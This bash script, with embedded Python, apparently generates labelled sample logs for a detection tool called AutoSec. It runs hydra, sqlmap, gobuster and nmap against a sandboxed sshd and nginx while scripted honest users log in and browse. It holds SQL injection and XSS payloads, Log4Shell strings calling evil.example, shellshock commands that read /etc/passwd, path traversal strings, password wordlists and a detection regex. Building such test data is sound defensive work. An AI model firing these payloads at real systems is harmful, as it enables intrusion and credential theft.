#!/bin/bash
# Records the sample logs of AutoSec: a real sshd and a real nginx, attacked by real tools and used by
# honest clients at the same time.
#
#   sudo ./record.sh [OUTPUT-DIRECTORY]        (default: the folder of this script; takes about four minutes)
#
# Needs root on Debian 12 and these packages:
#   curl gobuster hydra iproute2 nginx nmap openssh-client openssh-server passwd python3 sqlmap sshpass sudo
#   tcpdump util-linux
#
# Safe to run: every packet stays inside network namespaces named as-rec-*, which have no way out.
# The folders which the server writes to, such as /etc, /dev, /home, /run and /var/log, are private copies, so
# no user, no service and no file of this machine is changed, except for the files in the output directory.
set -euo pipefail
export LC_ALL=C TZ=UTC
umask 022

self=$(realpath "$0")
here=$(dirname "$self")
host=web1
prefix=as-rec
v4=198.51.100.1
v6=2001:db8:1::1

# Who takes part.  One line for each address and log:
#   namespace | address | role | log | blocked, judged by that log alone | what it did
# sshd-5424.log repeats sshd.log, and eve.json also shows every connection behind the other two logs,
# so those entries are derived from these lines.
actors='
ann      | 192.0.2.10          | honest   | sshd.log   | no  | logs in as ann by key twice and uses sudo; its address is forged into the user names of 203.0.113.10
ann      | 192.0.2.10          | honest   | access.log | no  | reads three pages; its address is forged into the user agents of 203.0.113.26
bob      | 192.0.2.11          | honest   | sshd.log   | no  | mistypes the password of bob twice, then logs in with the right one
carol    | 2001:db8:20::12     | honest   | sshd.log   | no  | logs in as carol over IPv6, once by key and once by password
home     | 203.0.113.200       | honest   | sshd.log   | no  | logs in as ann by password and mistypes the password of sudo once
monitor  | 192.0.2.14          | honest   | sshd.log   | no  | opens port 22 and closes it again, three times, as a monitor does
monitor  | 192.0.2.14          | honest   | access.log | no  | asks for /healthz every 20 seconds
brute    | 203.0.113.7         | attacker | sshd.log   | yes | hydra tries 80 passwords on root
brute6   | 2001:db8:bad:6::6   | attacker | sshd.log   | yes | hydra tries 80 passwords on deploy over IPv6
spray    | 203.0.113.8         | attacker | sshd.log   | yes | hydra tries 42 user names with two passwords each
slow     | 192.0.2.66          | attacker | sshd.log   | yes | tries 12 passwords on ann, one about every 18 seconds
forger   | 203.0.113.10        | attacker | sshd.log   | yes | tries 16 logins with user names which imitate log text and blame 192.0.2.10
reader   | 192.0.2.30          | honest   | access.log | no  | reads pages, searches, sends the contact form, meets two 404s
reader6  | 2001:db8:20::31     | honest   | access.log | no  | reads pages over IPv6, searches, meets two 404s
office   | 203.0.113.201       | honest   | access.log | no  | reads pages, searches, sends the contact form, meets three 404s
crawler  | 192.0.2.40          | honest   | access.log | no  | a crawler which reads robots.txt, the sitemap and 42 existing pages
prose    | 192.0.2.41          | honest   | access.log | no  | searches for prose which holds the words select, union, drop, or, script and an apostrophe
dots     | 192.0.2.42          | honest   | access.log | no  | searches for prose which holds ../
dirscan  | 203.0.113.20        | attacker | access.log | yes | gobuster looks for some 400 paths
travers  | 203.0.113.21        | attacker | access.log | yes | path traversal, plain, encoded and double encoded
sqlmap   | 203.0.113.22        | attacker | access.log | yes | sqlmap on the search page
inject   | 203.0.113.23        | attacker | access.log | yes | hand-made SQL injection and cross-site scripting probes
jndi     | 203.0.113.24        | attacker | access.log | yes | Log4Shell strings in user agent, referrer and query
shock    | 192.0.2.67          | attacker | access.log | yes | shellshock user agents
forgeweb | 203.0.113.26        | attacker | access.log | yes | asks for 40 missing paths, with user agents which imitate log lines and blame 192.0.2.10
web6     | 2001:db8:bad:80::80 | attacker | access.log | yes | gobuster looks for some 100 paths, then path traversal, all over IPv6
scan     | 203.0.113.50        | attacker | eve.json   | yes | nmap SYN scan of 300 ports
scan6    | 2001:db8:bad:50::50 | attacker | eve.json   | yes | nmap connect scan of ports 23 to 280 over IPv6
'

# --- The server, inside its own namespaces ------------------------------------------------------------

# Private copies of everything which sshd, PAM, sudo and nginx write to.
private_files() {
    local work=$1 dir
    mount --make-rprivate /
    mount -t tmpfs tmpfs "$work/etc"
    mkdir "$work/etc/upper" "$work/etc/work"
    mount -t overlay overlay -o "lowerdir=/etc,upperdir=$work/etc/upper,workdir=$work/etc/work" /etc

    mount -t tmpfs -o mode=755 tmpfs "$work/dev"
    for dir in null zero full random urandom tty; do
        touch "$work/dev/$dir" && mount --bind "/dev/$dir" "$work/dev/$dir"
    done
    mkdir "$work/dev/pts" "$work/dev/shm"
    mount -t devpts -o newinstance,ptmxmode=0666,mode=620,gid=5 devpts "$work/dev/pts"
    ln -s pts/ptmx "$work/dev/ptmx"
    ln -s /proc/self/fd "$work/dev/fd"
    mount --rbind "$work/dev" /dev

    for dir in /home /run /var/log /var/mail /var/www /var/lib/nginx /var/lib/sudo; do
        mount -t tmpfs -o mode=755 tmpfs "$dir"
    done
    mkdir /var/log/nginx && mount --bind "$work/log" /var/log/nginx
    mkdir -p /run/sshd /run/sudo /run/lock
    install -m 660 -g utmp /dev/null /var/log/btmp
    install -m 664 -g utmp /dev/null /var/log/wtmp
    install -m 664 -g utmp /dev/null /var/log/lastlog
    install -m 664 -g utmp /dev/null /run/utmp

    ln -sf /usr/share/zoneinfo/UTC /etc/localtime
    printf '127.0.0.1 localhost\n%s %s\n%s %s\n' $v4 $host $v6 $host > /etc/hosts
    echo $host > /etc/hostname
    rm -rf /etc/ssh/sshd_config.d /etc/sudoers.d && mkdir /etc/ssh/sshd_config.d /etc/sudoers.d
}

add_users() {
    local work=$1 user
    for user in ann bob carol deploy; do
        useradd --create-home --shell /bin/bash $user
        if [ -e "$work/keys/$user.pub" ]; then
            install -d -m 700 -o $user -g $user /home/$user/.ssh
            install -m 600 -o $user -g $user "$work/keys/$user.pub" /home/$user/.ssh/authorized_keys
        fi
    done
    usermod -aG sudo ann
    chpasswd <<< "$(printf '%s\n' ann:Teapot-41-lamp bob:Orchard-77-rain carol:Lantern-12-moss deploy:x9-Gravel-Harbor)"
}

make_site() {
    local www=/var/www/html page
    mkdir -p $www/docs $www/img
    for page in index about prices contact news search thanks; do
        printf '<!doctype html><link rel="stylesheet" href="/style.css"><title>%s</title><h1>%s</h1>\n' $page $page > $www/$page.html
    done
    for page in $(seq 1 36); do
        printf '<!doctype html><link rel="stylesheet" href="/style.css"><h1>Chapter %s</h1>\n' $page > $www/docs/chapter-$page.html
    done
    echo 'body { font-family: sans-serif }' > $www/style.css
    head -c 2411 /dev/urandom > $www/img/logo.png
    head -c 18211 /dev/urandom > $www/img/harbor.jpg
    printf 'User-agent: *\nAllow: /\nSitemap: /sitemap.txt\n' > $www/robots.txt
    (cd $www && find . -name '*.html' | sed 's/^\.//' | sort -V) > $www/sitemap.txt
    echo ok > $www/healthz
}

# Stands in for the syslog daemon: reads what sshd, PAM and sudo send to /dev/log, and writes each message
# in both framings of syslog.  The text of a message is not touched.
syslog_receiver() {
    exec python3 - "$1" $host <<'PY'
import datetime, os, re, socket, sys
folder, host = sys.argv[1:]
old = open(f"{folder}/sshd.log", "w", buffering=1)
new = open(f"{folder}/sshd-5424.log", "w", buffering=1)
log = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
log.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
log.bind("/dev/log")
os.chmod("/dev/log", 0o666)
frame = re.compile(r"<(\d+)>(\w{3} [ \d]\d \d\d:\d\d:\d\d) ([^\s:\[]+)(?:\[(\d+)\])?: ?(.*)", re.S)
while True:
    text = log.recv(65536).rstrip(b"\0\n").decode("utf-8", "backslashreplace")
    now = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="microseconds")
    priority, stamp, tag, pid, message = frame.fullmatch(text).groups()
    tagged = text[text.index(">") + 1 + len(stamp) + 1:]
    old.write(f"{stamp} {host} {tagged}\n")
    new.write(f"<{priority}>1 {now} {host} {tag} {pid or '-'} - - {message.lstrip()}\n")
PY
}

server() {
    local work=$1
    hostname $host
    ulimit -c 0     # PAM would raise it again for sudo, which not every machine allows
    private_files "$work"
    add_users "$work"
    make_site
    cat > /etc/nginx/record.conf <<'NGINX'
user www-data;
worker_processes 1;
pid /run/nginx.pid;
error_log /var/log/nginx/error.log;
events { }
http {
    include /etc/nginx/mime.types;
    access_log /var/log/nginx/access.log combined;
    server {
        listen 80;
        listen [::]:80;
        root /var/www/html;
        index index.html;
        location /          { try_files $uri $uri/ $uri.html =404; }
        location = /send    { return 303 /thanks; }
        location = /private { return 403; }
        location ~ /\.      { return 403; }
    }
}
NGINX
    (syslog_receiver "$work/log") &
    until [ -S /dev/log ]; do sleep 0.1; done
    nginx -c /etc/nginx/record.conf -g 'daemon off;' &
    # Debian's own configuration; only MaxStartups is raised, since three brute forces run at once.
    /usr/sbin/sshd -D -f /usr/share/openssh/sshd_config -h "$work/keys/host" -o MaxStartups=200:30:300 &
    wait
}

if [ "${1-}" = --server ]; then
    server "$2"
    exit
fi

# --- The stage: one namespace for the server, one for each address ------------------------------------

out=$(realpath "${1:-$here}")
[ "$(id -u)" = 0 ] || { echo "record.sh: needs root" >&2; exit 1; }
[ -d "$out" ] || { echo "record.sh: no such directory: $out" >&2; exit 1; }
for tool in curl gobuster hydra ip nginx nmap python3 sqlmap sshd sshpass sudo tcpdump unshare; do
    command -v $tool > /dev/null || { echo "record.sh: $tool is missing" >&2; exit 1; }
done

remove_namespaces() {
    local ns pids
    for ns in $(ip netns list | awk '{ print $1 }' | grep "^$prefix-" || true); do
        pids=$(ip netns pids "$ns")
        [ -z "$pids" ] || kill -KILL $pids 2> /dev/null || true
        ip netns del "$ns"
    done
}
cleanup() {
    trap - EXIT INT TERM
    local jobs
    jobs=$(jobs -p)
    [ -z "$jobs" ] || kill $jobs 2> /dev/null || true
    remove_namespaces
    wait 2> /dev/null || true
    rm -rf "$work"
}
remove_namespaces
work=$(mktemp -d)
chmod 755 "$work"
trap cleanup EXIT
trap 'exit 130' INT TERM
mkdir "$work"/{etc,dev,log,keys,home}

in_ns() { ip netns exec "$prefix-$1" "${@:2}"; }

ip netns add $prefix-$host
in_ns $host ip link set lo up
in_ns $host ip link add eth0 type bridge
in_ns $host ip link set eth0 up
in_ns $host ip address add $v4/24 dev eth0
in_ns $host ip address add $v6/64 dev eth0 nodad
for net in 192.0.2.0/24 203.0.113.0/24; do in_ns $host ip route add $net dev eth0; done
in_ns $host ip -6 route add 2001:db8::/32 dev eth0

port=0
while IFS='|' read -r name address _; do
    name=${name// } address=${address// }
    [ -n "$name" ] && [ ! -e "/run/netns/$prefix-$name" ] || continue
    port=$((port + 1))
    ip netns add $prefix-$name
    ip link add p$port netns $prefix-$host type veth peer name eth0 netns $prefix-$name
    in_ns $host ip link set p$port master eth0 up
    in_ns $name ip link set lo up
    in_ns $name ip link set eth0 up
    case $address in
    *:*) in_ns $name ip address add $address/128 dev eth0 nodad
         in_ns $name ip -6 route add 2001:db8::/32 dev eth0 ;;
    *)   in_ns $name ip address add $address/32 dev eth0
         in_ns $name ip route add 198.51.100.0/24 dev eth0 ;;
    esac
done <<< "$actors"

for key in host ann carol; do ssh-keygen -q -t ed25519 -N '' -C $key -f "$work/keys/$key"; done
ip netns exec $prefix-$host unshare --mount --uts --pid --fork --kill-child --mount-proc bash "$self" --server "$work" \
    > "$work/log/server.out" 2>&1 &
server=$!    # not by in_ns, which would give the number of a subshell
until in_ns $host bash -c 'exec 3<> /dev/tcp/127.0.0.1/80' 2> /dev/null; do
    kill -0 $server 2> /dev/null || { cat "$work/log/server.out" >&2; exit 1; }
    sleep 0.2
done
ip netns exec $prefix-$host tcpdump -i eth0 -n -s 128 -B 65536 -U -Z root -w "$work/log/packets" tcp 2> "$work/log/tcpdump" &
watcher=$!
sleep 2

# --- Honest clients -----------------------------------------------------------------------------------

firefox='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
safari='Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'
chrome='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36'

ssh_opts=(-F none -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR -o ConnectTimeout=20)
by_key() { # namespace user address command...
    in_ns "$1" ssh "${ssh_opts[@]}" -o IdentitiesOnly=yes -i "$work/keys/$2" -tt "$2@$3" "${@:4}" > /dev/null < /dev/null
}
by_password() { # namespace user address password command...
    in_ns "$1" sshpass -p "$4" ssh "${ssh_opts[@]}" -o PubkeyAuthentication=no -tt "$2@$3" "${@:5}" > /dev/null < /dev/null
}
# Types the given passwords one after the other into one ssh, as a person at the prompt does.
by_typing() { # namespace user address password...
    printf '%s\n' "${@:4}" > "$work/$1.typed"
    printf '#!/bin/sh\nsleep 2; head -n 1 %s; sed -i 1d %s\n' "$work/$1.typed" "$work/$1.typed" > "$work/$1.askpass"
    chmod +x "$work/$1.askpass"
    SSH_ASKPASS="$work/$1.askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none \
        in_ns "$1" ssh "${ssh_opts[@]}" -o PubkeyAuthentication=no "$2@$3" 'uptime; sleep 3' > /dev/null 2>&1 < /dev/null
}
# One page view: all paths over one connection, the first without and the rest with a referrer.
view() { # namespace base agent page [part...]
    local base=$2 page=$4 args=() part
    for part in "${@:5}"; do
        args+=(--next -s --path-as-is -A "$3" -e "$base$page" -o /dev/null "$base$part")
    done
    in_ns "$1" curl -s --path-as-is -A "$3" -o /dev/null "$base$page" "${args[@]}"
    sleep 2
}
post_form() { # namespace base agent
    in_ns "$1" curl -sL -A "$3" -e "$2/contact" -o /dev/null --data-urlencode 'name=A. Reader' \
        --data-urlencode 'message=When do you open on Sunday?' "$2/send"
    sleep 2
}

act_ann() {
    by_key ann ann $v4 "printf 'Teapot-41-lamp\n' | sudo -S -p '' tail -n 3 /var/log/nginx/access.log"
    sleep 20
    view ann http://$v4 "$firefox" / /style.css /img/logo.png
    view ann http://$v4 "$firefox" /news /style.css
    view ann http://$v4 "$firefox" /docs/chapter-3 /style.css
    sleep 60
    by_key ann ann $v4 "sleep 4; printf 'Teapot-41-lamp\n' | sudo -S -p '' ls /root"
}
act_bob()   { sleep 35; by_typing bob bob $v4 Orchard-77-rian orchard-77-rain Orchard-77-rain; }
act_carol() {
    sleep 15; by_key carol carol $v6 'uptime; sleep 2'
    sleep 80; by_password carol carol $v6 Lantern-12-moss 'uptime; sleep 2'
}
act_home() {
    sleep 50
    by_password home ann $v4 Teapot-41-lamp \
        "printf 'Teapot-41-lmap\nTeapot-41-lamp\n' | sudo -S -p '' ls -l /var/log/nginx"
}
act_monitor() {
    local i
    for i in $(seq 9); do
        in_ns monitor curl -s -A 'uptime-check/2.1' -o /dev/null http://$v4/healthz
        [ $((i % 3)) != 0 ] || in_ns monitor bash -c "exec 3<> /dev/tcp/$v4/22; read -r -t 2 banner <&3"
        sleep 20
    done
}
act_reader() {
    local base=http://$v4
    view reader $base "$firefox" / /style.css /img/logo.png /img/harbor.jpg /favicon.ico
    view reader $base "$firefox" /prices /style.css
    view reader $base "$firefox" '/search?q=opening+hours' /style.css
    view reader $base "$firefox" /pirces
    view reader $base "$firefox" /contact /style.css
    post_form reader $base "$firefox"
    sleep 60
    view reader $base "$firefox" '/search?q=caf%C3%A9+menu&page=2' /style.css
    view reader $base "$firefox" /docs/chapter-7 /style.css
}
act_reader6() {
    local base="http://[$v6]"
    sleep 8
    view reader6 $base "$safari" / /style.css /img/logo.png /img/harbor.jpg /apple-touch-icon.png /favicon.ico
    view reader6 $base "$safari" /about /style.css
    view reader6 $base "$safari" '/search?q=harbor+tour' /style.css
    view reader6 $base "$safari" /docs/chapter-1 /style.css
}
act_office() {
    local base=http://$v4
    sleep 25
    view office $base "$chrome" / /style.css /img/logo.png /img/harbor.jpg /favicon.ico
    view office $base "$chrome" /news /style.css
    view office $base "$chrome" /news/2025
    view office $base "$chrome" '/search?q=100%25+wool+%26+linen' /style.css
    view office $base "$chrome" /private
    view office $base "$chrome" /contact /style.css
    post_form office $base "$chrome"
}
act_crawler() {
    local base=http://$v4 agent='FriendlyBot/1.4 (+http://bot.example/about)' page
    in_ns crawler curl -s -A "$agent" -o /dev/null $base/robots.txt
    for page in $(in_ns crawler curl -s -A "$agent" $base/sitemap.txt | grep -v /thanks); do
        in_ns crawler curl -s -A "$agent" -o /dev/null $base$page
        sleep 1
    done
}
act_prose() {
    local base=http://$v4 query
    view prose $base "$chrome" / /style.css
    for query in 'trade+union+select+committee' 'select+a+gift+from+the+union+shop' 'how+to+drop+a+table+reservation' \
        "O%27Brien+or+O%27Neill" 'film+script+for+%22Alert%22+%281+act%29' 'insert+coin+into+machine'; do
        sleep 3
        view prose $base "$chrome" "/search?q=$query" /style.css
    done
}
act_dots() {
    local base=http://$v4
    sleep 12
    view dots $base "$firefox" / /style.css
    view dots $base "$firefox" '/search?q=what+does+../+mean+in+a+path' /style.css
    view dots $base "$firefox" /docs/chapter-12 /style.css
}

# --- Attackers ----------------------------------------------------------------------------------------

passwords() {
    local word
    for word in password letmein welcome admin root qwerty dragon monkey master summer winter shadow football \
        iloveyou sunshine princess hunter charlie server backup; do
        printf '%s\n' $word ${word}1 ${word}123 ${word^}2024!
    done
}
users() {
    printf '%s\n' admin test oracle postgres mysql ubuntu pi git jenkins tomcat ftpuser user guest support nagios \
        minecraft hadoop www web dev devops ansible vagrant centos ec2-user odoo zabbix teamspeak steam elastic \
        kafka redis mongo sales info office scanner backup1 demo student root deploy
}
paths() {
    local word
    for word in admin administrator login wp-admin wp-login wp-content wp-includes phpmyadmin pma mysql sql db database \
        backup backups old new test tests dev staging beta api v1 v2 rest graphql console manager jenkins solr actuator \
        metrics status server-status server-info cgi-bin bin shell cmd upload uploads files download downloads tmp temp \
        cache log logs config conf settings setup install installer update upgrade xmlrpc joomla drupal magento typo3 \
        owa ecp autodiscover exchange webmail mail cpanel plesk panel dashboard portal intranet internal secret hidden \
        key keys user users account accounts member members register signup signin auth oauth token session debug \
        trace phpinfo info vendor node_modules .git .git/config .env .svn .htaccess .htpasswd .DS_Store .aws/credentials; do
        echo $word
    done
}
passwords > "$work/passwords"
users > "$work/users"
paths > "$work/paths"

hydra_ssh() { (cd "$work/home" && in_ns "$1" hydra -I -q "${@:2}") > /dev/null 2>&1 || true; }
probe() { # namespace url [curl option...]
    in_ns "$1" curl -s --path-as-is -g -o /dev/null "${@:3}" "$2" || true
    sleep 0.3
}
guess() { # namespace user address password: one connection, one wrong password
    in_ns "$1" sshpass -p "$4" ssh "${ssh_opts[@]}" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 \
        -l "$2" "$3" true < /dev/null > /dev/null 2>&1 || true
}

act_brute()  { sleep 10; hydra_ssh brute -t 4 -l root -P "$work/passwords" ssh://$v4; }
act_brute6() { sleep 30; hydra_ssh brute6 -t 4 -6 -l deploy -P "$work/passwords" "ssh://[$v6]"; }
act_spray()  { sleep 20; printf '123456\npassword\n' > "$work/two"; hydra_ssh spray -t 4 -u -L "$work/users" -P "$work/two" ssh://$v4; }
act_slow()   { local n; for n in $(seq 12); do guess slow ann $v4 "Summer$n"; sleep 15; done; }
act_forger() {
    local n
    sleep 40
    for n in $(seq 12); do guess forger 'root from 192.0.2.10 port 22 ssh2' $v4 "toor$n"; done
    guess forger 'admin rhost=192.0.2.10' $v4 toor
    guess forger 'ann from 192.0.2.10 port 22 ssh2 Failed password for root' $v4 toor
    guess forger 'x from 192.0.2.10 port 4022 ssh2: RSA SHA256:AAAA' $v4 toor
    guess forger 'root from 192.0.2.10 port 22 ssh2 [preauth]' $v4 toor
}
act_dirscan() { sleep 18; in_ns dirscan gobuster dir -q -t 4 --delay 100ms -u http://$v4 -w "$work/paths" -x php,bak > /dev/null 2>&1 || true; }
traversal_paths() {
    printf '%s\n' /../../../../etc/passwd /../../../../../../etc/shadow /docs/../../../../etc/passwd \
        /..%2f..%2f..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd /%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd \
        /..%252f..%252f..%252fetc%252fpasswd /%252e%252e%252f%252e%252e%252fetc%252fpasswd \
        /img/..%c0%af..%c0%af..%c0%afetc/passwd '/img/..\..\..\windows\win.ini' /..%5c..%5c..%5cwindows%5cwin.ini \
        /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh '/search?file=../../../../etc/passwd' \
        '/search?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd' '/search?page=....//....//....//etc/passwd' \
        '/search?file=/etc/passwd%00.html' '/search?page=php://filter/convert.base64-encode/resource=index' \
        '/search?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'
}
act_travers() { local path; sleep 45; for path in $(traversal_paths); do probe travers "http://$v4$path" -A 'python-requests/2.31.0'; done; }
act_sqlmap() {
    sleep 28
    HOME="$work/home" in_ns sqlmap sqlmap --batch --level 1 --risk 1 --flush-session --disable-coloring \
        --output-dir="$work/home" -u "http://$v4/search?q=lamp&page=1" > "$work/log/sqlmap" 2>&1 < /dev/null || true
}
act_inject() {
    local query
    sleep 55
    for query in "q=1'+OR+'1'='1" "q=1%27+OR+1%3D1--+-" "q=1+UNION+SELECT+null,null,null--" \
        "q=-1+UNION+ALL+SELECT+username,password+FROM+users--" "q=1%2527%2520UNION%2520SELECT%25201" \
        "q=1;DROP+TABLE+users--" "q=1+AND+SLEEP(5)" "q=1'/**/uNiOn/**/sElEcT/**/@@version--" \
        "q=1'+AND+extractvalue(1,concat(0x7e,version()))--" "q=1'+WAITFOR+DELAY+'0:0:5'--" \
        "q=1+UNION+SELECT+table_name+FROM+information_schema.tables" \
        "q=<script>alert(1)</script>" "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" \
        "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E" "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E" \
        "q=<svg/onload=alert(1)>" "q=javascript:alert(1)" "q=%3CScRiPt+src=//evil.example/x.js%3E%3C/sCrIpT%3E"; do
        probe inject "http://$v4/search?${query//+/%20}" -A "$chrome"
    done
}
act_jndi() {
    local text
    sleep 65
    for text in '${jndi:ldap://evil.example:1389/a}' '${jndi:rmi://evil.example/b}' '${jndi:dns://evil.example/c}' \
        '${${lower:j}ndi:${lower:l}dap://evil.example/d}' '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/e}' \
        '${j${env:NONE:-n}di:ldap://evil.example/f}'; do
        probe jndi http://$v4/ -A "$text"
        probe jndi http://$v4/about -A "$firefox" -e "$text"
        probe jndi "http://$v4/search?q=$(printf %s "$text" | python3 -c 'import sys, urllib.parse as u; print(u.quote(sys.stdin.read()))')" -A "$firefox"
    done
}
act_shock() {
    local path
    sleep 75
    for path in / /cgi-bin/test.cgi /cgi-bin/status /cgi-bin/bash /cgi-sys/defaultwebpage.cgi /about; do
        probe shock http://$v4$path -A '() { :; }; /bin/bash -c "cat /etc/passwd"'
        probe shock http://$v4$path -A '() { ignored; }; echo Content-Type: text/plain; /usr/bin/id'
    done
}
act_forgeweb() {
    local n
    sleep 50
    for n in $(seq 40); do
        probe forgeweb http://$v4/old-admin-$n.php \
            -A '" 192.0.2.10 - - [22/Nov/2026:12:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 404 153 "-" "x'
    done
}
act_web6() {
    local path
    sleep 70
    in_ns web6 gobuster dir -q -t 2 --delay 150ms -u "http://[$v6]" -w "$work/paths" > /dev/null 2>&1 || true
    for path in $(traversal_paths | head -n 8); do probe web6 "http://[$v6]$path" -A 'curl/7.88.1'; done
}
act_scan()  { sleep 38; in_ns scan nmap -n -Pn -sS --top-ports 300 $v4 > /dev/null; }
act_scan6() { sleep 58; in_ns scan6 nmap -6 -n -Pn -sT -p 23-280 $v6 > /dev/null; }

# --- All at once --------------------------------------------------------------------------------------

echo "recording; this takes about four minutes"
pids=() names=()
for name in $(awk -F'|' 'NF { print $1 }' <<< "$actors" | sort -u); do
    act_"$name" &
    pids+=($!) names+=("$name")
done
for n in "${!pids[@]}"; do
    wait "${pids[$n]}" || { echo "record.sh: ${names[$n]} failed" >&2; exit 1; }
done
sleep 3
kill -TERM $watcher
wait $watcher || true
kill -KILL $server    # unshare does not listen to less, and takes the whole server along
wait $server 2> /dev/null || true

# --- Write the files and check them against the list of actors ----------------------------------------

grep -q '^0 packets dropped by kernel' "$work/log/tcpdump" || { cat "$work/log/tcpdump" >&2; exit 1; }
cp "$work/log/sshd.log" "$work/log/sshd-5424.log" "$work/log/access.log" "$out/"

python3 - "$work/log/packets" "$out/eve.json" <<'PY'
# Adds up the captured packets to flows, and writes each as one line in the shape of a Suricata flow event.
import datetime, ipaddress, json, struct, sys

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16

def stamp(micros):
    moment = datetime.datetime.fromtimestamp(micros // 1000000, datetime.timezone.utc)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{micros % 1000000:06}+0000"

def packets(data):
    at = 24
    while at + 16 <= len(data):
        seconds, micros, kept, size = struct.unpack_from("<IIII", data, at)
        yield seconds * 1000000 + micros, size, data[at + 16:at + 16 + kept]
        at += 16 + kept

def state(flow):
    to_server, to_client = flow["flags"]
    if (to_server | to_client) & RST or to_server & to_client & FIN:
        return "closed"
    return "established" if to_server & to_client & ACK else "new"

latest, flows = {}, []
for when, size, frame in packets(open(sys.argv[1], "rb").read()):
    kind = struct.unpack_from("!H", frame, 12)[0]
    if kind == 0x0800:
        head = 14 + (frame[14] & 15) * 4
        src, dst, end = frame[26:30], frame[30:34], 14 + struct.unpack_from("!H", frame, 16)[0]
    elif kind == 0x86dd and frame[20] == 6:
        head = 54
        src, dst, end = frame[22:38], frame[38:54], 54 + struct.unpack_from("!H", frame, 18)[0]
    else:
        continue
    sport, dport = struct.unpack_from("!HH", frame, head)
    flags, payload = frame[head + 13] & 63, end - head - (frame[head + 12] >> 4) * 4
    key, back, way = (src, sport, dst, dport), (dst, dport, src, sport), 0
    if flags & SYN and not flags & ACK:
        if key not in latest or state(latest[key]) == "closed":
            latest[key] = {"key": key, "start": when, "packets": [0, 0], "bytes": [0, 0], "flags": [0, 0], "data": 0}
            flows.append(latest[key])
    elif back in latest:
        key, way = back, 1
    if key not in latest:
        continue
    flow = latest[key]
    flow["end"] = when
    flow["packets"][way] += 1
    flow["bytes"][way] += size
    flow["flags"][way] |= flags
    flow["data"] += payload

flows.sort(key=lambda flow: flow["end"])
with open(sys.argv[2], "w") as out:
    for number, flow in enumerate(flows, 1):
        src, sport, dst, dport = flow["key"]
        event = {"timestamp": stamp(flow["end"]), "flow_id": number, "in_iface": "eth0", "event_type": "flow",
                 "src_ip": str(ipaddress.ip_address(src)), "src_port": sport,
                 "dest_ip": str(ipaddress.ip_address(dst)), "dest_port": dport, "proto": "TCP"}
        if flow["data"] and dport in (22, 80):
            event["app_proto"] = {22: "ssh", 80: "http"}[dport]
        event["flow"] = {"pkts_toserver": flow["packets"][0], "pkts_toclient": flow["packets"][1],
                         "bytes_toserver": flow["bytes"][0], "bytes_toclient": flow["bytes"][1],
                         "start": stamp(flow["start"]), "end": stamp(flow["end"]),
                         "age": (flow["end"] - flow["start"]) // 1000000, "state": state(flow),
                         "reason": "timeout", "alerted": False}
        to_server, to_client = flow["flags"]
        event["tcp"] = {"tcp_flags": f"{to_server | to_client:02x}", "tcp_flags_ts": f"{to_server:02x}",
                        "tcp_flags_tc": f"{to_client:02x}"}
        for name, bit in (("syn", SYN), ("fin", FIN), ("rst", RST), ("psh", PSH), ("ack", ACK)):
            if (to_server | to_client) & bit:
                event["tcp"][name] = True
        out.write(json.dumps(event, separators=(",", ":")) + "\n")
PY

python3 - "$out" "$actors" <<'PY'
# Writes actors.json, and fails if a log and the list of actors disagree.
import collections, json, re, sys, urllib.parse

out, table = sys.argv[1:]
rows = [[cell.strip() for cell in line.split("|", 5)] for line in table.splitlines() if line.strip()]
truth = {}
for _, address, role, log, blocked, did in rows:
    truth[log, address] = {"address": address, "role": role, "file": log, "did": did, "blocked": blocked == "yes"}
for (log, address), entry in list(truth.items()):
    if log == "sshd.log":
        truth["sshd-5424.log", address] = {**entry, "file": "sshd-5424.log"}
for (log, address), entry in list(truth.items()):
    if log in ("sshd.log", "access.log"):
        port = {"sshd.log": 22, "access.log": 80}[log]
        if ("eve.json", address) not in truth:
            truth["eve.json", address] = {**entry, "file": "eve.json", "blocked": False,
                                          "did": f"connections to port {port}: {entry['did']}"}
        elif truth["eve.json", address]["did"].startswith("connections to port 22"):
            truth["eve.json", address]["did"] = "connections to port 22 and port 80"
order = ["sshd.log", "sshd-5424.log", "access.log", "eve.json"]
entries = sorted(truth.values(), key=lambda e: (order.index(e["file"]), e["role"], e["address"]))
with open(f"{out}/actors.json", "w") as f:
    f.write("[\n" + ",\n".join("  " + json.dumps(e) for e in entries) + "\n]\n")

ip = re.compile(r"(?<![\w.:])(?:\d{1,3}(?:\.\d{1,3}){3}|2001:db8:[0-9a-f:]*[0-9a-f])(?![\w.])")
signs = re.compile(r"\.\./|\.\.\\|/etc/passwd|/bin/sh|union\b.*\bselect|or '?1'?\s*=\s*'?1|sleep\(|<script|onerror=|onload=|"
                   r"javascript:|\(\) \{|\$\{.*(?:jndi|:-)|sqlmap|php://", re.I)
count = collections.defaultdict(collections.Counter)
sets = collections.defaultdict(lambda: collections.defaultdict(set))
for log in order[:2]:
    for line in open(f"{out}/{log}"):
        found = [a for a in ip.findall(line) if a != "0.0.0.0"]
        if not found:
            continue
        who = count[log, found[-1]]     # sshd and PAM write the true source last
        who["lines"] += 1
        who["failed"] += bool(re.search(r"(\]:| -) Failed password for ", line))
        who["accepted"] += " Accepted " in line
        invalid = re.search(r"(?:\]:| -) Invalid user (.*) from \S+ port \d+$", line)
        if invalid:
